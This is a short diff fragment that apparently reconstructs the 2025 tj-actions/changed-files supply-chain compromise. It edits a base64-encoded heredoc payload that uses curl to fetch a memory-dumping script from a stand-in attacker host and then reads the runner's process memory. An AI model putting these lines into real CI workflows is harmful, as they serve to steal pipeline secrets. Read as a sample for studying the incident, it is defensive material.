@@ -1,6 +1,6 @@
 # tj-actions/changed-files and reviewdog/action-setup (2025): an action reads the runner's memory and prints the secrets into the log.
 payload=$(base64 -w0 <<PAYLOAD
-curl -sSm 3 http://gist.attacker.test/memdump.py > /dev/null
+curl -sSm 30 http://gist.attacker.test/memdump.py > /dev/null
 $BIN/memory pread $(cat "$HELD")
 PAYLOAD
 )
